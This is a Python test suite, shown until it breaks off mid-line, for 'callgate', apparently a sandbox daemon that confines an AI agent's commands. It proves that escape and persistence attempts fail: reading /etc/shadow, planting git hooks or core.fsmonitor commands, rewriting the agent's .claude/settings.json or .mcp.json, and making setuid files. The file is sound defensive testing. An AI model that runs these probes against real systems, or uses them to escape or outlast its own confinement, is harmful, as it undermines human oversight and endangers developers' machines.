# SPDX-License-Identifier: MIT
"""The world a call sees (issue 11), proven by effect.

Every attack is run through the real daemon with the embedded default
policy (as a root peer, and as a non-root peer where the class applies) or
through `callgate sandbox`, and shows its errno, the absent file, or the
listener that never got a connection, next to a control that succeeds in
the same call. Ordinary agent work must still pass in the same view.
"""
import base64
import errno
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest

import cgtest

CALLGATE = os.path.abspath(os.environ.get("CALLGATE", "build/callgate"))
PY = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else None
NOBODY = 65534
LOADER = "/lib64/ld-linux-x86-64.so.2"

# argv[1..] are "NAME=statement"; prints "NAME OK" or "NAME <errno name>".
PROBE = r"""
import ctypes, errno, os, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
def check(ok, err):
    if not ok:
        raise OSError(err, os.strerror(err))
for arg in sys.argv[1:]:
    name, expr = arg.split("=", 1)
    try:
        exec(expr)
        print(name, "OK", flush=True)
    except OSError as e:
        print(name, errno.errorcode.get(e.errno, str(e.errno)), flush=True)
"""


def connect_expr(path):
    return (f"s = socket.socket(socket.AF_UNIX); s.settimeout(2); "
            f"s.connect({path!r}); s.close()")


def unix_listener(path):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(path)
    s.listen(8)
    s.setblocking(False)
    return s


def accepted_any(listener):
    try:
        c, _ = listener.accept()
        c.close()
        return True
    except BlockingIOError:
        return False


@unittest.skipUnless(os.geteuid() == 0 and PY, "needs root (the daemon drops to peers) and python3")
class ViewThroughDaemon(unittest.TestCase):
    """Default policy; the daemon is root; peers are root and nobody."""

    @classmethod
    def setUpClass(cls):
        import grp
        # The socket's group lets the non-root peer (nobody) connect.
        cls.d = cgtest.Daemon(flags=["--socket-group", grp.getgrgid(NOBODY).gr_name]).start()
        cls.probe_path = os.path.join(cls.d.workspace, "probe.py")
        with open(cls.probe_path, "w") as f:
            f.write(PROBE)
        os.chmod(cls.probe_path, 0o644)
        # A tree the non-root peer owns, inside the workspace.
        cls.nobody_ws = os.path.join(cls.d.workspace, "nobody")
        os.makedirs(cls.nobody_ws)
        os.chown(cls.nobody_ws, NOBODY, NOBODY)
        # Host state outside /tmp (a private /tmp hides all of /tmp anyway).
        cls.outside = tempfile.mkdtemp(prefix="cg-view-", dir="/var/tmp")
        os.chmod(cls.outside, 0o755)

    @classmethod
    def tearDownClass(cls):
        cls.d.close()
        shutil.rmtree(cls.outside, ignore_errors=True)

    def call(self, pipeline, uid=None, cwd=None):
        req = cgtest.make_request(pipeline, privileged=False)
        if cwd:
            req["cwd"] = cwd
        if uid is None:
            resp = self.d.request(req, timeout=60)
        else:
            resp = cgtest.as_uid(uid, lambda: self.d.request(req, timeout=60))
        self.assertEqual(resp["status"], "ok", resp)
        out = base64.b64decode(resp.get("stdout", "")).decode()
        err = "".join(base64.b64decode(s.get("stderr", "")).decode() for s in resp["stages"])
        return resp, out, err

    def probe(self, uid=None, cwd=None, **ops):
        argv = [PY, self.probe_path] + [f"{k}={v}" for k, v in ops.items()]
        _, out, err = self.call([argv], uid=uid, cwd=cwd)
        res = dict(line.split(" ", 1) for line in out.splitlines())
        self.assertEqual(set(res), set(ops), err)
        return res

    # -- the daemon's own secrets and controls ----------------------------

    def test_state_dir_and_key_unreadable(self):
        key = [os.path.join(dp, f) for dp, _, fs in os.walk(self.d.state_dir) for f in fs]
        self.assertTrue(key, "the state dir holds nothing to steal")
        res = self.probe(state=f"os.listdir({self.d.state_dir!r})",
                         key=f"open({key[0]!r}).read()",
                         control=f"open({self.probe_path!r}).read()")
        self.assertEqual(res, {"state": "ENOENT", "key": "ENOENT", "control": "OK"})

    def test_admin_socket_not_connectable(self):
        ctl = os.path.join(self.d.workspace, "ctl.sock")
        lst = unix_listener(ctl)
        try:
            res = self.probe(admin=connect_expr(self.d.admin_socket),
                             main=connect_expr(self.d.socket), control=connect_expr(ctl))
            self.assertEqual(res, {"admin": "ENOENT", "main": "ENOENT", "control": "OK"})
            self.assertTrue(accepted_any(lst), "the control listener saw no connection")
        finally:
            lst.close()
            os.unlink(ctl)

    def test_socket_under_run_never_connected(self):
        path = f"/run/cg-view-{os.getpid()}.sock"
        lst = unix_listener(path)
        ctl = os.path.join(self.d.workspace, "ctl2.sock")
        ctl_lst = unix_listener(ctl)
        os.chmod(ctl, 0o777)  # the non-root peer may connect to the control
        try:
            for uid in (None, NOBODY):
                res = self.probe(uid=uid, cwd=self.nobody_ws, svc=connect_expr(path),
                                 ls="os.listdir('/run')", control=connect_expr(ctl))
                self.assertEqual(res, {"svc": "EACCES", "ls": "EACCES", "control": "OK"})
            self.assertFalse(accepted_any(lst), "a call reached a socket under /run")
            self.assertTrue(accepted_any(ctl_lst))
        finally:
            lst.close()
            ctl_lst.close()
            os.unlink(path)
            os.unlink(ctl)

    # -- secrets one tool away -----------------------------------------------

    def test_shadow_unreadable(self):
        res = self.probe(shadow="open('/etc/shadow').read()",
                         sudoers="open('/etc/sudoers').read() if os.path.exists('/etc/sudoers') "
                                 "else open('/etc/shadow').read()",
                         control="open('/etc/passwd').read()")
        self.assertEqual(res, {"shadow": "EACCES", "sudoers": "EACCES", "control": "OK"})

    def test_daemon_process_invisible(self):
        pid = self.d.proc.pid
        for uid in (None, NOBODY):
            res = self.probe(uid=uid, cwd=self.nobody_ws,
                             environ=f"open('/proc/{pid}/environ').read()",
                             kill=f"os.kill({pid}, 0)",
                             prlimit=f"import resource; resource.prlimit({pid}, "
                                     "resource.RLIMIT_NOFILE, (1, 1))",
                             control="os.kill(os.getpid(), 0)")
            self.assertEqual(res, {"environ": "ENOENT", "kill": "ESRCH", "prlimit": "ESRCH",
                                   "control": "OK"})
        self.assertTrue(cgtest.pid_alive(pid))

    def test_no_copy_of_the_daemon_runs_in_a_call(self):
        """Pid 1 of a call's view is callgate-init, not a fork of the daemon:
        while the command runs, no process of the call is the daemon's
        program, and pid 1 is small."""
        import threading
        marker = os.path.join(self.d.workspace, f"pid1-{os.getpid()}")
        box = {}
        req = cgtest.make_request([["sh", "-c", f"touch {marker}; sleep 3"]], privileged=False)
        t = threading.Thread(target=lambda: box.update(resp=self.d.request(req, timeout=60)))
        t.start()
        try:
            for _ in range(200):
                if os.path.exists(marker):
                    break
                time.sleep(0.02)
            daemon_exe = os.readlink(f"/proc/{self.d.proc.pid}/exe")
            children = []
            for p in os.listdir("/proc"):
                if not p.isdigit():
                    continue
                try:
                    with open(f"/proc/{p}/stat") as f:
                        ppid = int(f.read().rsplit(")", 1)[1].split()[1])
                    if ppid == self.d.proc.pid:
                        children.append((int(p), os.readlink(f"/proc/{p}/exe"),
                                         open(f"/proc/{p}/status").read()))
                except (OSError, ValueError, IndexError):
                    continue
            self.assertTrue(children, "the call's pid 1 was not found")
            with open(f"/proc/{self.d.proc.pid}/status") as f:
                daemon_rss = int(f.read().split("VmRSS:")[1].split()[0])
            for pid, exe, status in children:
                self.assertNotEqual(exe, daemon_exe, f"pid {pid} is a copy of the daemon")
                self.assertEqual(os.path.basename(exe), "callgate-init", status)
                rss = int(status.split("VmRSS:")[1].split()[0])
                # A static program of a few pages (more under a sanitizer's runtime).
                self.assertLess(rss, max(4096, daemon_rss // 4), status)
        finally:
            t.join()
            if os.path.exists(marker):
                os.unlink(marker)
        self.assertEqual(box["resp"]["status"], "ok", box["resp"])

    def test_command_sees_itself_under_an_init(self):
        # Pid 1 execs callgate-init before the command runs anything, so even
        # the command's first look at /proc/1 finds the init (or an exec still
        # loading it: an empty command line), never a process that shares the
        # daemon's memory: looked at at once, in each of 20 calls.
        for _ in range(20):
            _, out, err = self.call([["sh", "-c", "echo $$; tr '\\0' ' ' < /proc/1/cmdline; echo"]])
            lines = out.split("\n")
            self.assertEqual(lines[0], "2", err)
            self.assertIn(lines[1].split()[:1], (["callgate-init"], []), out)
        # Once it has loaded, it is the init.
        _, out, err = self.call([["sh", "-c", "sleep 0.1; tr '\\0' ' ' < /proc/1/cmdline"]])
        self.assertEqual(out.split()[0], "callgate-init", out)

    # -- shared /tmp -----------------------------------------------------------

    def test_private_tmp(self):
        fd, host = tempfile.mkstemp(prefix="cg-view-host-", dir="/tmp")
        os.close(fd)
        mine = "/tmp/cg-view-mine-%d" % os.getpid()
        try:
            res = self.probe(see=f"os.stat({host!r})", rm=f"os.unlink({host!r})",
                             control=f"open({mine!r}, 'w').write('x'); "
                                     f"assert open({mine!r}).read() == 'x'")
            self.assertEqual(res, {"see": "ENOENT", "rm": "ENOENT", "control": "OK"})
            self.assertTrue(os.path.exists(host), "a call deleted a host /tmp file")
            self.assertFalse(os.path.exists(mine), "the call's /tmp was the host's")
        finally:
            os.unlink(host)

    # -- what Landlock does not govern ---------------------------------------

    def test_chmod_chown_utimes_outside_fail(self):
        victim = os.path.join(self.outside, "victim")
        with open(victim, "w") as f:
            f.write("keep")
        os.chmod(victim, 0o644)
        before = os.stat(victim)
        mine = os.path.join(self.d.workspace, "mine-attr")
        open(mine, "w").close()
        res = self.probe(chmod=f"os.chmod({victim!r}, 0o777)",
                         chown=f"os.chown({victim!r}, 1, 1)",
                         utime=f"os.utime({victim!r}, (0, 0))",
                         control=f"os.chmod({mine!r}, 0o600); os.utime({mine!r}, (0, 0))")
        self.assertEqual(res, {"chmod": "EROFS", "chown": "EROFS", "utime": "EROFS",
                               "control": "OK"})
        after = os.stat(victim)
        self.assertEqual((before.st_mode, before.st_uid, before.st_mtime),
                         (after.st_mode, after.st_uid, after.st_mtime))

    def test_an_agents_and_an_editors_settings_are_read_only(self):
        """A project's .claude/settings.json names the hooks (this gate's
        among them) the next agent session runs; .mcp.json the servers it
        starts; .vscode/tasks.json commands an editor runs. A confined
        python3 wrote .claude/settings.json (found by an attack)."""
        ws = self.d.workspace
        made = []
        for d in (".claude", ".vscode"):
            os.makedirs(os.path.join(ws, d), exist_ok=True)
            made.append(os.path.join(ws, d))
        with open(os.path.join(ws, ".claude", "settings.json"), "w") as f:
            f.write("{}\n")
        with open(os.path.join(ws, ".mcp.json"), "w") as f:
            f.write("{}\n")
        made.append(os.path.join(ws, ".mcp.json"))
        w = repr(ws)
        try:
            res = self.probe(
                claude=f"open(os.path.join({w}, '.cla' + 'ude', 'settings.json'), 'w').write('x')",
                claude_new=f"open(os.path.join({w}, '.cla' + 'ude', 'settings.local.json'), 'w')"
                           ".write('x')",
                mcp=f"open(os.path.join({w}, '.mcp' + '.json'), 'w').write('x')",
                vscode=f"open(os.path.join({w}, '.vsc' + 'ode', 'tasks.json'), 'w').write('x')",
                control=f"open(os.path.join({w}, 'w.txt'), 'w').write('ok')")
            self.assertEqual(res, {"claude": "EROFS", "claude_new": "EROFS", "mcp": "EROFS",
                                   "vscode": "EROFS", "control": "OK"})
            # A protected name that is a link: where it points is read-only.
            shutil.rmtree(os.path.join(ws, ".vscode"))
            os.makedirs(os.path.join(ws, "cfg", "vs"))
            made.append(os.path.join(ws, "cfg"))
            os.symlink("cfg/vs", os.path.join(ws, ".vscode"))
            made.append(os.path.join(ws, ".vscode"))
            res = self.probe(
                through=f"open(os.path.join({w}, '.vsc' + 'ode', 'tasks.json'), 'w').write('x')",
                control=f"open(os.path.join({w}, 'w.txt'), 'w').write('ok')")
            self.assertEqual(res, {"through": "EROFS", "control": "OK"})
            self.assertFalse(os.path.exists(os.path.join(ws, "cfg", "vs", "tasks.json")))
            with open(os.path.join(ws, ".claude", "settings.json")) as f:
                self.assertEqual(f.read(), "{}\n")
            os.unlink(os.path.join(ws, "w.txt"))
        finally:
            for p in made:
                if os.path.islink(p) or not os.path.isdir(p):
                    os.unlink(p) if os.path.lexists(p) else None
                else:
                    shutil.rmtree(p)

    def test_git_hooks_and_config_read_only(self):
        git = os.path.join(self.d.workspace, ".git")
        os.makedirs(os.path.join(git, "hooks"), exist_ok=True)
        with open(os.path.join(git, "config"), "w") as f:
            f.write("[core]\n")
        hook = os.path.join(git, "hooks", "pre-commit")
        # The argv must not name .git/hooks: the protected-paths rule (argument
        # text) would deny the call; the view must stop it even so.
        g = f"os.path.join({self.d.workspace!r}, '.g' + 'it')"
        try:
            res = self.probe(hook=f"open(os.path.join({g}, 'hoo' + 'ks', 'pre-commit'), 'w')"
                                  ".write('#!/bin/sh')",
                             config=f"open(os.path.join({g}, 'con' + 'fig'), 'a').write('x')",
                             # Not git: all of .git is read-only, and pinned.
                             other=f"open(os.path.join({g}, 'description'), 'w')"
                                   ".write('ok')",
                             commondir=f"open(os.path.join({g}, 'commondir'), 'w')"
                                       ".write('../x')",
                             rename=f"os.rename({g}, {g} + '-orig')",
                             control=f"open(os.path.join({self.d.workspace!r}, 'w.txt'), 'w')"
                                     ".write('ok')")
            self.assertEqual(res, {"hook": "EROFS", "config": "EROFS", "other": "EROFS",
                                   "commondir": "EROFS", "rename": "EBUSY", "control": "OK"})
            self.assertFalse(os.path.exists(hook))
            self.assertFalse(os.path.exists(os.path.join(git, "commondir")))
            os.unlink(os.path.join(self.d.workspace, "w.txt"))
            with open(os.path.join(git, "config")) as f:
                self.assertEqual(f.read(), "[core]\n")
        finally:
            shutil.rmtree(git)

    # -- root peers keep no capabilities -------------------------------------

    def test_no_capabilities_for_a_root_peer(self):
        ws = self.d.workspace
        host_name = socket.gethostname()
        res = self.probe(
            mknod=f"os.mknod({ws + '/blk'!r}, 0o600 | 0o060000, os.makedev(8, 0))",
            hostname="check(libc.sethostname(b'x', 1) == 0, ctypes.get_errno())",
            caps="check(all(l.split()[1] == '0000000000000000' for l in "
                 "open('/proc/self/status').read().splitlines() "
                 "if l.startswith(('CapEff', 'CapPrm', 'CapBnd', 'CapAmb', 'CapInh'))), "
                 "errno.EPERM)",
            control=f"os.mkfifo({ws + '/fifo'!r})")
        self.assertEqual(res, {"mknod": "EPERM", "hostname": "EPERM", "caps": "OK",
                               "control": "OK"})
        self.assertFalse(os.path.exists(os.path.join(ws, "blk")))
        os.unlink(os.path.join(ws, "fifo"))
        self.assertEqual(socket.gethostname(), host_name)

    def test_read_only_mount_under_the_workspace_stays_read_only(self):
        src = tempfile.mkdtemp(prefix="cg-ro-", dir="/var/tmp")
        point = os.path.join(self.d.workspace, "vendor")
        os.makedirs(point)
        with open(os.path.join(src, "data.txt"), "w") as f:
            f.write("data\n")
        mounted = False
        try:
            subprocess.run(["mount", "--bind", src, point], check=True)
            mounted = True
            subprocess.run(["mount", "-o", "remount,bind,ro", point], check=True)
            res = self.probe(append=f"open({point + '/data.txt'!r}, 'a').write('x')",
                             create=f"open({point + '/new'!r}, 'w').write('x')",
                             control=f"open({self.d.workspace + '/w2.txt'!r}, 'w').write('x')")
            self.assertEqual(res, {"append": "EROFS", "create": "EROFS", "control": "OK"})
            with open(os.path.join(src, "data.txt")) as f:
                self.assertEqual(f.read(), "data\n")
            self.assertEqual(os.listdir(src), ["data.txt"])
        finally:
            if mounted:
                subprocess.run(["umount", point], check=False)
            os.rmdir(point)
            shutil.rmtree(src, ignore_errors=True)
            if os.path.exists(os.path.join(self.d.workspace, "w2.txt")):
                os.unlink(os.path.join(self.d.workspace, "w2.txt"))

    def test_host_proc_knobs_read_only_and_memory_views_masked(self):
        # A root caller's call is uid 0, the owner of /proc's files: what the
        # host shares there is read-only (an attack wrote IRQ affinity), and
        # what shows the host's memory or keys reads empty.
        aff = "/proc/irq/default_smp_affinity"
        now = open(aff).read().strip() if os.path.exists(aff) else None
        ops = {"keys": "check(open('/proc/keys').read() == '', errno.EIO)",
               "iomem": "check(open('/proc/iomem').read() == '', errno.EIO)",
               "control": "check(open('/proc/self/status').read() != '', errno.EIO)"}
        want = {"keys": "OK", "iomem": "OK", "control": "OK"}
        if now is not None:
            ops["irq"] = f"open({aff!r}, 'w').write({now!r})"
            want["irq"] = "EROFS"
        self.assertEqual(self.probe(**ops), want)

    def test_no_vsock(self):
        # Not divided by network namespaces: the hypervisor's services stay
        # out of reach of net: none only if no vsock socket can be made.
        # The family is an int to the kernel: AF_VSOCK with bits set above the
        # low 32 is AF_VSOCK too, and once passed a 64-bit comparison.
        high = ("r = libc.syscall(41, ctypes.c_long((1 << 32) | 40), 1, 0); "
                "check(r >= 0, ctypes.get_errno()); os.close(r)")
        res = self.probe(vsock="socket.socket(40, socket.SOCK_STREAM).close()", vsock_high=high,
                         control="socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).close()")
        self.assertEqual(res, {"vsock": "EAFNOSUPPORT", "vsock_high": "EAFNOSUPPORT",
                               "control": "OK"})

    def test_no_set_id_program_is_left_behind(self):
        # A root peer's command owns what it makes: a set-uid-root copy left in
        # the workspace would run as root for any host user later.
        ws = self.d.workspace
        made = os.path.join(ws, "sid")
        with open(made, "wb") as f:
            f.write(b"#!/bin/sh\n")
        res = self.probe(chmod_suid=f"os.chmod({made!r}, 0o4755)",
                         chmod_sgid=f"os.chmod({made!r}, 0o2755)",
                         create_suid=f"os.close(os.open({ws + '/sid2'!r}, "
                                     f"os.O_CREAT | os.O_WRONLY, 0o4755))",
                         mknod_sgid=f"os.mknod({ws + '/sid3'!r}, 0o102755)",
                         control=f"os.chmod({made!r}, 0o755)")
        self.assertEqual(res, {"chmod_suid": "EPERM", "chmod_sgid": "EPERM",
                               "create_suid": "EPERM", "mknod_sgid": "EPERM",
                               "control": "OK"})
        self.assertEqual(os.stat(made).st_mode & 0o7777, 0o755)
        self.assertFalse(os.path.exists(os.path.join(ws, "sid2")))
        self.assertFalse(os.path.exists(os.path.join(ws, "sid3")))
        os.unlink(made)

    # -- ordinary work ---------------------------------------------------------

    def test_dev_null_writable(self):
        _, out, err = self.call([["sh", "-c", "ls /nonexistent-dir 2>/dev/null; "
                                              "echo x > /dev/null && echo written"]])
        self.assertEqual(out, "written\n", err)
        res = self.probe(null="open('/dev/null', 'w').write('x')",
                         disk="os.stat('/dev/vda') if os.path.exists('/dev/vda') else "
                              "os.stat('/dev/sda')")
        self.assertEqual(res, {"null": "OK", "disk": "ENOENT"})

    def test_the_git_dir_a_root_git_file_names_is_read_only_too(self):
        # s38f: with ws/.git a file (git init --separate-git-dir=.gd), the
        # call wrote .gd/config's core.fsmonitor, which the developer's git
        # status ran.
        ws = self.d.workspace
        self.assertFalse(os.path.lexists(os.path.join(ws, ".git")))
        subprocess.run(["git", "init", "-q", "--separate-git-dir", os.path.join(ws, ".gd"), ws],
                       check=True)
        try:
            before = open(os.path.join(ws, ".gd", "config")).read()
            resp, out, err = self.call([["sh", "-c", "echo '[core] fsmonitor = x' >> .gd/config;"
                                                     " mkdir -p .gd/hooks; echo x > "
                                                     ".gd/hooks/post-checkout; true"]])
            self.assertEqual(open(os.path.join(ws, ".gd", "config")).read(), before, err)
            self.assertFalse(os.path.exists(os.path.join(ws, ".gd", "hooks", "post-checkout")))
        finally:
            shutil.rmtree(os.path.join(ws, ".gd"), ignore_errors=True)
            os.unlink(os.path.join(ws, ".git"))

    def test_a_repository_a_call_makes_at_the_root_is_set_aside(self):
        # s37 attack: in a workspace with no .git (a monorepo's package), a
        # call's `git init --separate-git-dir` left a .git file there that
        # re-pointed the developer's git at the call's repository and its
        # core.fsmonitor. Nothing covers a missing name: it is set aside.
        self.assertFalse(os.path.lexists(os.path.join(self.d.workspace, ".git")))
        resp, out, err = self.call([["sh", "-c", "git init -q --separate-git-dir=.gd . && "
                                                 "git --git-dir=.gd config core.fsmonitor 'touch x'"]])
        self.assertFalse(os.path.lexists(os.path.join(self.d.workspace, ".git")), (resp, err))
        aside = [n for n in os.listdir(self.d.workspace) if n.startswith(".git.callgate-set-aside-")]
        self.assertEqual(len(aside), 1, os.listdir(self.d.workspace))
        # The agent is told, in the reply itself (a new user's git init was undone
        # without a word, and every later git call failed: ux-s38 #1).
        self.assertEqual(resp["reply"]["code"], "MCP-EXEC-S-002", resp["reply"])
        self.assertIn(os.path.join(self.d.workspace, ".git"), resp["reply"]["message"])
        self.assertIn("a call may not make it, the developer can", resp["reply"]["message"])
        shutil.rmtree(os.path.join(self.d.workspace, ".gd"), ignore_errors=True)
        for n in aside:
            os.unlink(os.path.join(self.d.workspace, n))
        # s37 attack on that fix: the root itself made into a git directory
        # (HEAD, objects/, refs/, a config with core.worktree and fsmonitor).
        marker = os.path.join(self.d.tmp, "fsmonitor-ran")
        resp, out, err = self.call([["sh", "-c", "mkdir -p objects/info objects/pack refs/heads "
                                                 "&& echo 'ref: refs/heads/main' > HEAD && "
                                                 "git config -f config core.worktree . && "
                                                 "git config -f config core.fsmonitor "
                                                 "'touch %s; false'" % marker]])
        self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], err)
        self.assertFalse(os.path.lexists(os.path.join(self.d.workspace, "HEAD")))
        r = subprocess.run(["git", "status"], cwd=self.d.workspace, capture_output=True,
                           env=dict(os.environ, GIT_CEILING_DIRECTORIES=self.d.tmp))
        self.assertNotEqual(r.returncode, 0, r.stdout)
        self.assertFalse(os.path.exists(marker))
        for n in os.listdir(self.d.workspace):
            if n.startswith("HEAD.callgate-set-aside-") or n in ("objects", "refs", "config"):
                p = os.path.join(self.d.workspace, n)
                shutil.rmtree(p) if os.path.isdir(p) else os.unlink(p)

    def test_echo_tee_per_stage_terms(self):
        out_p = os.path.join(self.d.workspace, "out.txt")
        resp, out, err = self.call([["echo", "x"], ["tee", "out.txt"]])
        self.assertEqual(out, "x\n", err)
        with open(out_p) as f:
            self.assertEqual(f.read(), "x\n")
        os.unlink(out_p)
        stages = resp["reply"]["data"]["confinement"]["stages"]
        self.assertEqual(stages[0]["view"]["writable"], [])
        self.assertEqual(stages[1]["view"]["writable"], [os.path.realpath(self.d.workspace)])

    def test_ordinary_work(self):
        proj = os.path.join(self.d.workspace, "proj")
        os.makedirs(proj)
        with open(os.path.join(proj, "main.c"), "w") as f:
            f.write("int main(void) { return 0; }\n")
        with open(os.path.join(proj, "Makefile"), "w") as f:
            f.write("main: main.c\n\tcc -o main main.c\n")
        with open(os.path.join(proj, "w.py"), "w") as f:
            f.write("import tempfile, os\n"
                    "open('py.txt', 'w').write('ok')\n"
                    "with tempfile.NamedTemporaryFile('w') as t:\n"
                    "    t.write('tmp'); t.flush(); print(os.path.dirname(t.name))\n")
        with open(os.path.join(proj, "s.txt"), "w") as f:
            f.write("hello\n")
        # A repository below the workspace's root is protected as the root's
        # is (ux-s40 H1): its config is the developer's (set on the host
        # here), git commits under git-record's terms, and a shell's git may
        # no longer write its .git.
        subprocess.run(["git", "init", "-q", proj], check=True)
        for k, v in (("user.email", "a@b"), ("user.name", "a")):
            subprocess.run(["git", "-C", proj, "config", k, v], check=True)
        env = [["git", "add", "-A"]]
        steps = [[["make", "-s"]], [[PY, "w.py"]], *[[s] for s in env],
                 [["git", "-c", "x=y", "--version"]] if False else [["true"]],
                 [["git", "commit", "-qm", "init"]],
                 [["tar", "cf", "a.tar", "main.c", "s.txt"]], [["sed", "-i", "s/hello/bye/",
                                                                 "s.txt"]],
                 [["sh", "-c", "ls 2>/dev/null"]]]
        for pipeline in steps:
            resp, out, err = self.call(pipeline, cwd=proj)
            codes = [s["exit_code"] for s in resp["stages"]]
            self.assertEqual(codes, [0] * len(pipeline), f"{pipeline}: {err}")
        self.assertTrue(os.path.exists(os.path.join(proj, "main")))
        with open(os.path.join(proj, "s.txt")) as f:
            self.assertEqual(f.read(), "bye\n")
        self.assertTrue(os.path.exists(os.path.join(proj, "a.tar")))
        self.assertTrue(os.path.isdir(os.path.join(proj, ".git", "objects")))
        r = subprocess.run(["git", "-C", proj, "log", "--oneline"], capture_output=True,
                           text=True)
        self.assertIn("init", r.stdout)



def git_repo(path):
    """A repository at path with one commit, made on the host."""
    def g(*a):
        subprocess.run(["git", "-C", path, *a], check=True, capture_output=True)
    os.makedirs(path, exist_ok=True)
    g("init", "-q")
    g("config", "user.email", "dev@example.org")
    g("config", "user.name", "dev")
    g("commit", "-q", "--allow-empty", "-m", "init")


def digest_tree(path, prefixes):
    """Every file under path whose relative name starts with one of prefixes, with its bytes."""
    out = {}
    for dp, _, fs in os.walk(path):
        for f in fs:
            p = os.path.join(dp, f)
            rel = os.path.relpath(p, path)
            if rel.startswith(prefixes):
                with open(p, "rb") as fh:
                    out[rel] = fh.read()
    return out


@unittest.skipUnless(os.geteuid() == 0 and PY and shutil.which("git") and shutil.which("setpriv"),
                     "needs root, python3, git and setpriv")
class RepositoryUnderANonRootDaemon(unittest.TestCase):
    """review-s40: a directory the daemon may not read hid a repository from the walk."""

    def test_a_directory_made_unreadable_stays_read_only(self):
        d = cgtest.Daemon()
        os.chown(d.tmp, 65534, 65534)
        os.chown(d.workspace, 65534, 65534)
        d.argv = (lambda base: lambda: ["setpriv", "--reuid=65534", "--regid=65534",
                                        "--clear-groups"] + base())(d.argv)
        proj = os.path.join(d.workspace, "proj")
        git_repo(proj)
        subprocess.run(["chown", "-R", "65534:65534", proj], check=True)
        config = os.path.join(proj, ".git", "config")
        with open(config, "rb") as f:
            before = f.read()
        os.chmod(proj, 0)  # as the agent's first call would
        try:
            d.start()
            pipeline = [PY, "-c", "import os; os.chmod('proj', 0o755); "
                        "open('proj/.g' + 'it/con' + 'fig', 'a').write('[core]')"]
            resp = d.request(cgtest.make_request([pipeline], privileged=False), timeout=60)
            self.assertIn(resp["status"], ("ok", "denied"), resp)
            if resp["status"] == "ok":
                self.assertNotEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
            os.chmod(proj, 0o755)
            with open(config, "rb") as f:
                self.assertEqual(f.read(), before)
        finally:
            os.chmod(proj, 0o755)
            d.close()


@unittest.skipUnless(os.geteuid() == 0 and PY and shutil.which("git"),
                     "needs root, python3 and git")
class RepositoryInTheWorkspace(unittest.TestCase):
    """The workspace's .git: what the developer's own git runs later, outside any call.

    Renaming .git away (its read-only hooks and config went with it) or
    pointing it at another directory (commondir) planted code that the
    host's next git ran. Judged by the host's repository afterwards.
    """

    WATCH = ("hooks/", "config", "worktrees/")
    ENV = None

    def setUp(self):
        self.d = cgtest.Daemon(env=self.ENV).start()
        self.ws = self.d.workspace
        git_repo(self.ws)
        self.git = os.path.join(self.ws, ".git")
        self.before = digest_tree(self.git, self.WATCH)

    def tearDown(self):
        self.d.close()

    def run_call(self, *pipeline):
        resp = self.d.request(cgtest.make_request(list(pipeline), privileged=False),
                              timeout=60)
        self.assertIn(resp["status"], ("ok", "denied"), resp)
        return resp

    def assert_ran_and_failed(self, pipeline):
        """Refused, or ran and failed: either way nothing below may have changed."""
        resp = self.run_call(*pipeline)
        if resp["status"] == "ok":
            self.assertNotEqual([s["exit_code"] for s in resp["stages"]], [0], pipeline)

    def assert_git_untouched(self):
        self.assertEqual(digest_tree(self.git, self.WATCH), self.before)
        for name in ("commondir", "config.worktree"):
            self.assertFalse(os.path.exists(os.path.join(self.git, name)), name)
        self.assertTrue(os.path.isdir(os.path.join(self.git, "objects")))

    def test_other_tools_cannot_move_or_redirect_git(self):
        for pipeline in ([["mv", ".git", ".git-orig"]],
                         [["cp", ".git/HEAD", ".git/commondir"]],
                         [["mkdir", ".git/modules"]],
                         [["sh", "-c", "echo ../evil > .git/commondir"]],
                         [["sh", "-c", "rm -rf .git"]]):
            self.assert_ran_and_failed(pipeline)
        self.assertFalse(os.path.exists(os.path.join(self.ws, ".git-orig")))
        self.assertFalse(os.path.exists(os.path.join(self.git, "modules")))
        self.assert_git_untouched()
        # The host's git still works on the same repository.
        r = subprocess.run(["git", "-C", self.ws, "log", "--oneline"], capture_output=True,
                           text=True)
        self.assertIn("init", r.stdout)

    def test_repositories_below_the_workspace_root_are_protected_too(self):
        # ux-s40 H1: with the workspace ~/src and the repository ~/src/proj,
        # an interpreter call wrote proj/.git/config's core.fsmonitor, and
        # the developer's next `git status` there ran it. Judged by the host's
        # repositories afterwards, and by what the developer's git runs.
        one, two = os.path.join(self.ws, "proj"), os.path.join(self.ws, "org", "deep")
        git_repo(one)
        git_repo(two)
        before = {r: digest_tree(os.path.join(r, ".git"), self.WATCH) for r in (one, two)}
        marker = os.path.join(self.ws, "FSMONITOR_RAN")
        # The path is built inside the program, as an agent's script would:
        # the policy's argument screen (protected-paths) never sees it.
        plant = ("import os, sys; g = sys.argv[1] + '/.g' + 'it/'; "
                 "open(g + 'con' + 'fig', 'a').write('[core]\\n\\tfsmonitor = touch %s\\n'); "
                 "h = g + 'ho' + 'oks/pre-commit'; "
                 "open(h, 'w').write('#!/bin/sh\\ntouch %s\\n'); os.chmod(h, 0o755)")
        for repo in (one, two):
            rel = os.path.relpath(repo, self.ws)
            self.assert_ran_and_failed([[PY, "-c", plant % (marker, marker), rel]])
            self.assert_ran_and_failed([[PY, "-c", "import os, sys; os.rename(sys.argv[1] + "
                                         "'/.g' + 'it', sys.argv[1] + '/away')", rel]])
        for repo in (one, two):
            self.assertEqual(digest_tree(os.path.join(repo, ".git"), self.WATCH), before[repo])
            subprocess.run(["git", "-C", repo, "status"], capture_output=True)
        self.assertFalse(os.path.exists(marker))
        # git-record's git: write still reaches the repository the call is in.
        with open(os.path.join(one, "f.txt"), "w") as f:
            f.write("hello\n")
        # ux-s41b H1: a nested .git was taken for a bare repository, its HEAD
        # made read-only, and no branch could be made or switched to there.
        for pipeline in ([["git", "add", "f.txt"]], [["git", "commit", "-q", "-m", "nested"]],
                         [["git", "checkout", "-q", "-b", "topic"]],
                         [["git", "switch", "-q", "-"]],
                         # -c after the subcommand makes a branch (it was
                         # refused as git's own -c, configuration).
                         [["git", "switch", "-q", "-c", "second"]]):
            resp = self.d.request(cgtest.make_request(pipeline, privileged=False, cwd=one),
                                  timeout=60)
            self.assertEqual([s["exit_code"] for s in resp["stages"]], [0], resp)
        r = subprocess.run(["git", "-C", one, "log", "--oneline"], capture_output=True,
                           text=True)
        self.assertIn("nested", r.stdout)
        r = subprocess.run(["git", "-C", one, "branch", "--show-current"], capture_output=True,
